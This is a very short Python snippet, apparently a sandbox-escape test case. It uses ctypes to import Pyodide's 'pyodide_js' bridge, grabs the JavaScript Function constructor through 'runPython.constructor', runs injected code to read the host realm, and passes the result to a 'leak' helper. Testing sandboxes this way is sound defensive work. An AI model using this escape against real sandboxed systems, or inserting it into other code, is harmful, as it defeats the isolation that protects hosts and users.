witness()
import ctypes

find = ctypes.pythonapi.PyImport_ImportModule
find.restype = ctypes.py_object
leak(find(b"pyodide_js").runPython.constructor(trial["readRealm"])())
